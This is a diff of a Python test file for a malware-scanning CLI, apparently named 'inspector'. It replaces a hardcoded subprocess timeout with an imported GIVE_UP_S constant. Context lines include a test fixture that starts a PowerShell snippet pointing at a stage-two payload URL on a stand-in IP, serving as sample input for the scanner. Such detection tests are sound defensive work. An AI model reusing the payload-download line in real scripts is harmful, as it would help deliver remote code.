@@ -14,6 +14,7 @@ from rich.console import Console
 
 from inspector.cli.report import render_verdict, report_console
 from inspector.model import Verdict
+from tests.timing import GIVE_UP_S
 
 BIN = Path(sys.executable).parent / "inspector"
 SCRIPT = ("$u = 'http://203.0.113.7/stage2.ps1'\n"
@@ -26,7 +27,7 @@ def scan(path: Path, *args: str, columns: str | None = None) -> subprocess.Compl
     env["INSPECTOR_FETCH"] = "false"
     if columns is not None:
         env["COLUMNS"] = columns
-    return subprocess.run([str(BIN), "scan", *args, str(path)], capture_output=True, text=True, env=env, timeout=120)
+    return subprocess.run([str(BIN), "scan", *args, str(path)], capture_output=True, text=True, env=env, timeout=GIVE_UP_S)
 
 
 @pytest.fixture(scope="module")
